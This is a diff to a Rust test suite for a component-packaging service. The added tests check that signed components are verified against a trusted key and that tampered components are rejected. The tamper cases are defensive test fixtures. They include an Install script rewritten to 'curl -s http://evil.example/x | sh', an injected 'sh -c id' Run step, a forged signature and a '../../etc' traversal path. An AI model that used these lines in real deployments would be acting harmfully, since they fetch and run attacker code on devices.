@@ -9,7 +9,8 @@ use package::component::{recipe_problems, verify};
 use package::packaging::key_prefix;
 use package::sample::SampleKind;
 use package::shapes::{GreengrassConfiguration, TargetPlatform};
-use serde_json::Value;
+use package::signing::PublicKey;
+use serde_json::{json, Value};
 
 fn platform(arch: &str, acc: Option<&str>) -> Option<TargetPlatform> {
     Some(TargetPlatform { os: Some("LINUX".into()), arch: Some(arch.into()), accelerator: acc.map(Into::into) })
@@ -35,6 +36,20 @@ fn configs() -> Vec<(&'static str, GreengrassConfiguration, KernelSetId, &'stati
     ]
 }
 
+/// A service with the sample model packaged for AVX2 as component `c` 1.0.0; its key prefix.
+fn packaged() -> (tempfile::TempDir, package::Service, String) {
+    let (dir, svc) = service();
+    project_with_sample(&svc, "p");
+    let job = svc.start_model_packaging_job(&start("p", "1", x86("core-avx2", "c"))).unwrap().job_name;
+    svc.run_job("p", &job).unwrap();
+    (dir, svc, key_prefix(Some("factory"), "c", "1.0.0"))
+}
+
+/// The service's own public key.
+fn key(svc: &package::Service) -> PublicKey {
+    svc.signer().expect("signing key").public_key()
+}
+
 fn json(svc: &package::Service, bucket: &str, key: &str) -> Value {
     serde_json::from_slice(&svc.output().get(bucket, key).expect("object")).expect("JSON")
 }
@@ -53,8 +68,9 @@ fn every_documented_configuration_makes_a_verified_component() {
         assert_eq!(out.component_name, component);
         assert_eq!(out.component_version, "1.0.0", "{what}: ComponentVersion defaults to <ModelVersion>.0.0");
         let prefix = key_prefix(Some("factory"), &component, "1.0.0");
-        let uris = verify(svc.output(), "components", &prefix).unwrap_or_else(|e| panic!("{what}: {e}"));
-        assert_eq!(uris.len(), 4, "{what}: plan, model, manifest, parity report");
+        let v = verify(svc.output(), "components", &prefix, &key(&svc)).unwrap_or_else(|e| panic!("{what}: {e}"));
+        assert_eq!(v.artifacts.len(), 4, "{what}: plan, model, manifest, parity report");
+        assert_eq!(v.signed_by, key(&svc).key_id(), "{what}");
         let recipe = json(&svc, "components", &format!("{prefix}/recipe.json"));
         assert!(recipe_problems(&recipe).is_empty(), "{what}: {:?}", recipe_problems(&recipe));
         assert_eq!(recipe["Manifests"][0]["Platform"]["architecture"], arch, "{what}");
@@ -82,8 +98,8 @@ fn every_documented_configuration_makes_a_verified_component() {
     }
     // One agent component beside them, for both architectures, with a Run step.
     let prefix = key_prefix(Some("factory"), "edgepack.EdgeAgent", package::agent_component::AGENT_VERSION);
-    let uris = verify(svc.output(), "components", &prefix).expect("the agent component verifies");
-    assert_eq!(uris.len(), 2, "{uris:?}");
+    let v = verify(svc.output(), "components", &prefix, &key(&svc)).expect("the agent component verifies");
+    assert_eq!(v.artifacts.len(), 2, "{v:?}");
     let recipe = json(&svc, "components", &format!("{prefix}/recipe.json"));
     assert!(recipe_problems(&recipe).is_empty(), "{:?}", recipe_problems(&recipe));
     for (m, arch) in recipe["Manifests"].as_array().unwrap().iter().zip(["amd64", "aarch64"]) {
@@ -131,26 +147,22 @@ fn a_job_without_the_targets_agent_build_fails_clearly() {
 
 #[test]
 fn a_tampered_or_missing_artifact_is_detected() {
-    let (dir, svc) = service();
-    project_with_sample(&svc, "p");
-    let job = svc.start_model_packaging_job(&start("p", "1", x86("core-avx2", "c"))).unwrap().job_name;
-    svc.run_job("p", &job).unwrap();
-    let prefix = key_prefix(Some("factory"), "c", "1.0.0");
-    verify(svc.output(), "components", &prefix).expect("untouched component verifies");
+    let (dir, svc, prefix) = packaged();
+    verify(svc.output(), "components", &prefix, &key(&svc)).expect("untouched component verifies");
     // The prefix as job messages print it, with a trailing slash, names the same component.
-    verify(svc.output(), "components", &format!("{prefix}/")).expect("a trailing slash verifies too");
+    verify(svc.output(), "components", &format!("{prefix}/"), &key(&svc)).expect("a trailing slash verifies too");
     let folder = dir.path().join("buckets/components").join(&prefix);
     let plan = folder.join("model.eppl");
     let mut bytes = std::fs::read(&plan).unwrap();
     let last = bytes.len() - 1;
     bytes[last] ^= 1;
     std::fs::write(&plan, &bytes).unwrap();
-    let e = verify(svc.output(), "components", &prefix).expect_err("tampered plan");
+    let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err("tampered plan");
     assert!(e.message.contains("model.eppl") && e.message.contains("changed"), "{e}");
     std::fs::remove_file(folder.join("manifest.json")).unwrap();
     bytes[last] ^= 1;
     std::fs::write(&plan, &bytes).unwrap();
-    let e = verify(svc.output(), "components", &prefix).expect_err("missing manifest");
+    let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err("missing manifest");
     assert!(e.message.contains("manifest.json") && e.message.contains("does not exist"), "{e}");
     assert_eq!(e.kind, package::ErrorKind::Validation, "a missing object is the caller's to fix");
 }
@@ -253,6 +265,170 @@ fn keys_that_would_leave_the_bucket_folder_fail_the_job_and_write_nothing() {
         assert!(d.job.status_message.as_deref().unwrap().contains("'..' segments"), "{:?}", d.job.status_message);
     }
     assert!(!dir.path().join("escaped").exists() && !dir.path().join("buckets/escaped").exists());
-    let e = verify(svc.output(), "components", "../../etc").unwrap_err();
+    let e = verify(svc.output(), "components", "../../etc", &key(&svc)).unwrap_err();
     assert!(e.message.contains("segments"), "{e}");
+}
+
+/// One tampering of a published component: what it does to the folder, and what the
+/// verification must say about it.
+struct Tamper {
+    what: &'static str,
+    apply: fn(&std::path::Path),
+    says: &'static [&'static str],
+}
+
+fn edit_json(path: &std::path::Path, f: impl FnOnce(&mut Value)) {
+    let mut v: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
+    f(&mut v);
+    std::fs::write(path, serde_json::to_string_pretty(&v).unwrap() + "\n").unwrap();
+}
+
+/// Rewrites the recipe and keeps `create-component-version.json`'s inline copy in step, as a
+/// careful attacker would: only the signature (and the service's own rules) can tell.
+fn edit_recipe(dir: &std::path::Path, f: impl FnOnce(&mut Value)) {
+    edit_json(&dir.join("recipe.json"), f);
+    let recipe = std::fs::read(dir.join("recipe.json")).unwrap();
+    edit_json(&dir.join("create-component-version.json"), |c| {
+        c["inlineRecipe"] = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &recipe).into();
+    });
+}
+
+fn artifact_digest(dir: &std::path::Path, file: &str) -> String {
+    package::component::digest(&std::fs::read(dir.join(file)).unwrap())
+}
+
+const TAMPERINGS: &[Tamper] = &[
+    Tamper {
+        what: "Install script replaced by a download",
+        apply: |d| {
+            edit_recipe(d, |r| {
+                r["Manifests"][0]["Lifecycle"]["Install"]["Script"] = "curl -s http://evil.example/x | sh".into()
+            })
+        },
+        says: &["Lifecycle.Install script is not the service's", "recipe.json is not the file that was signed"],
+    },
+    Tamper {
+        what: "a Run step added",
+        apply: |d| edit_recipe(d, |r| r["Manifests"][0]["Lifecycle"]["Run"] = json!({ "Script": "sh -c id" })),
+        says: &["the service writes Install only"],
+    },
+    Tamper {
+        what: "create-component-version.json's inline recipe replaced",
+        apply: |d| {
+            edit_json(&d.join("create-component-version.json"), |c| {
+                c["inlineRecipe"] = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, b"{}").into()
+            })
+        },
+        says: &["inlineRecipe is not recipe.json", "create-component-version.json is not the file that was signed"],
+    },
+    Tamper {
+        what: "create-component-version.json deleted (a publish that stopped before its last file)",
+        apply: |d| std::fs::remove_file(d.join("create-component-version.json")).unwrap(),
+        says: &["create-component-version.json", "signs [\"recipe.json\", \"create-component-version.json\"]"],
+    },
+    Tamper {
+        what: "model.onnx swapped, the recipe's digest updated to match",
+        apply: |d| {
+            std::fs::write(d.join("model.onnx"), b"another model").unwrap();
+            let digest = artifact_digest(d, "model.onnx");
+            edit_recipe(d, |r| r["Manifests"][0]["Artifacts"][1]["Digest"] = digest.into());
+        },
+        says: &["manifest.json gives the model SHA-256", "recipe.json is not the file that was signed"],
+    },
+    Tamper {
+        what: "a recipe with zero artifacts",
+        apply: |d| edit_recipe(d, |r| r["Manifests"][0]["Artifacts"] = json!([])),
+        says: &["Artifacts are []"],
+    },
+    Tamper {
+        what: "an artifact URI into another bucket",
+        apply: |d| {
+            edit_recipe(d, |r| {
+                let a = &mut r["Manifests"][0]["Artifacts"][0]["URI"];
+                *a = a.as_str().unwrap().replace("s3://components/", "s3://elsewhere/").into();
+            })
+        },
+        says: &["s3://elsewhere/", "the service writes"],
+    },
+    Tamper {
+        what: "manifest.json edited (its digest in the recipe updated)",
+        apply: |d| {
+            edit_json(&d.join("manifest.json"), |m| m["Plan"]["Sha256"] = "0".repeat(64).into());
+            let digest = artifact_digest(d, "manifest.json");
+            edit_recipe(d, |r| r["Manifests"][0]["Artifacts"][2]["Digest"] = digest.into());
+        },
+        says: &["manifest.json gives the plan SHA-256 000", "recipe.json is not the file that was signed"],
+    },
+    Tamper {
+        what: "the signature removed",
+        apply: |d| std::fs::remove_file(d.join("signature.json")).unwrap(),
+        says: &["signature.json"],
+    },
+    Tamper {
+        what: "the agent dependency dropped",
+        apply: |d| edit_recipe(d, |r| r["ComponentDependencies"] = json!({})),
+        says: &["ComponentDependencies {} are not the service's"],
+    },
+];
+
+/// Issue 27, item 8: every tampering the issue lists (and a few more) fails verification with
+/// a message naming it, whether or not the attacker kept the files consistent with each
+/// other; a component signed by another service verifies only with that service's key.
+#[test]
+fn tampered_components_do_not_verify() {
+    let (dir, svc, prefix) = packaged();
+    let folder = dir.path().join("buckets/components").join(&prefix);
+    let pristine: Vec<(std::path::PathBuf, Vec<u8>)> = std::fs::read_dir(&folder)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .map(|p| {
+            let b = std::fs::read(&p).unwrap();
+            (p, b)
+        })
+        .collect();
+    assert_eq!(pristine.len(), 7, "four artifacts, signature, recipe, create-component-version.json");
+    let restore = || {
+        for e in std::fs::read_dir(&folder).unwrap() {
+            std::fs::remove_file(e.unwrap().path()).unwrap();
+        }
+        for (p, b) in &pristine {
+            std::fs::write(p, b).unwrap();
+        }
+    };
+    for t in TAMPERINGS {
+        restore();
+        verify(svc.output(), "components", &prefix, &key(&svc)).expect("restored component verifies");
+        (t.apply)(&folder);
+        let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err(t.what);
+        assert_eq!(e.kind, package::ErrorKind::Validation, "{}", t.what);
+        for says in t.says {
+            assert!(e.message.contains(says), "{}: expected {says:?} in: {}", t.what, e.message);
+        }
+    }
+    restore();
+    // Another service's key: the signature is not its.
+    let (_other_dir, other) = service();
+    let e = verify(svc.output(), "components", &prefix, &key(&other)).expect_err("another key");
+    assert!(e.message.contains("not with the trusted key"), "{e}");
+    // The exported key, read back, is this service's.
+    let exported = serde_json::to_string(&key(&svc).export()).unwrap();
+    let v = verify(svc.output(), "components", &prefix, &PublicKey::parse(&exported).unwrap()).unwrap();
+    assert_eq!(v.signed_by, key(&svc).key_id());
+    // A signature made by another key over the very same files (an attacker with their own
+    // key who rewrote the key id) does not verify either.
+    let forged = other.signer().unwrap().sign(&[
+        &package::output::OutputFile {
+            name: "recipe.json".into(),
+            bytes: std::fs::read(folder.join("recipe.json")).unwrap(),
+        },
+        &package::output::OutputFile {
+            name: "create-component-version.json".into(),
+            bytes: std::fs::read(folder.join("create-component-version.json")).unwrap(),
+        },
+    ]);
+    let mut forged: Value = serde_json::from_slice(&forged.bytes).unwrap();
+    forged["KeyId"] = key(&svc).key_id().into();
+    std::fs::write(folder.join("signature.json"), serde_json::to_vec(&forged).unwrap()).unwrap();
+    let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err("forged signature");
+    assert!(e.message.contains("does not verify with key"), "{e}");
 }
